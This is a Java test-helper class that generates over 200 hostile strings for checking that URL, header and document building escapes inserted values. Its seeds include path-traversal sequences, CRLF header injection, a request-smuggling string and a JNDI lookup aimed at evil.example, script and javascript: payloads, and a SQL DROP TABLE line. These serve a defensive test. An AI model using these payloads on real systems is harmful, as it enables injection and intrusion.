package io.muster.it;

import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;

/** Texts that would change a URL, a header or a document if they were inserted as they are. */
final class HostileValues {

    private static final List<String> SEEDS = List.of(
            "../",
            "..",
            ".",
            "./",
            "/",
            "//",
            "///evil.example/",
            "\\",
            "..\\",
            "?",
            "?x=2",
            "#",
            "#fragment",
            "@",
            "@evil.example/",
            ":80@evil.example/",
            "&fixed=2",
            "&x=2&fixed=3",
            ";x=2",
            "=",
            "+",
            ",",
            "%",
            "%2f",
            "%2F..%2F",
            "%2e%2e",
            "%2e%2e%2f",
            "%252f",
            "%00",
            "%0d%0aX-Injected:%201",
            "%zz",
            "%u002f",
            "\r\nX-Injected: 1",
            "\r\n\r\nGET /other HTTP/1.1\r\nHost: evil.example\r\n\r\n",
            "\nX-Injected: 1",
            "\rX-Injected: 1",
            "\u0000",
            "\t",
            "\u000b",
            "\u007f",
            " ",
            " HTTP/1.1\r\nX: ",
            "\u0085",
            "\u00a0",
            "\u2028",
            "\u2029",
            "\u560d\u560a",
            "\u010d\u010a",
            "\uff0f",
            "\uff1f",
            "\u2024\u2024/",
            "\u2215",
            "é",
            "Ω",
            "\uD83D\uDE00",
            "\u202e",
            "\ufeff",
            "\"",
            "'",
            "\", \"injected\": \"1",
            "\\\", \\\"injected\\\": 1",
            "{x}",
            "{+x}",
            "{?x*}",
            "${jndi:ldap://evil.example/}",
            "<script>",
            "|",
            "^",
            "`",
            "~",
            "*",
            "(",
            "[",
            "]",
            "http://evil.example/",
            "javascript:alert(1)",
            "1; DROP TABLE users",
            "{\"$from\": \"0\"}",
            "null",
            "");

    private HostileValues() {}

    /** More than 200, each once. */
    static List<String> all() {
        Set<String> values = new LinkedHashSet<>(SEEDS);
        for (String seed : SEEDS) {
            values.add("a" + seed);
            values.add(seed + "a");
            values.add("a" + seed + "b");
        }
        values.add("/".repeat(5_000));
        values.add("../".repeat(600));
        values.add("x".repeat(2_048));
        values.add("é".repeat(400));
        values.add("\r\n".repeat(300));
        values.add("x".repeat((1 << 20) - 2));
        values.add("/x?y#z@".repeat(100_000));
        IntStream.range(0, 32).mapToObj(code -> "c" + (char) code).forEach(values::add);
        return List.copyOf(values);
    }
}
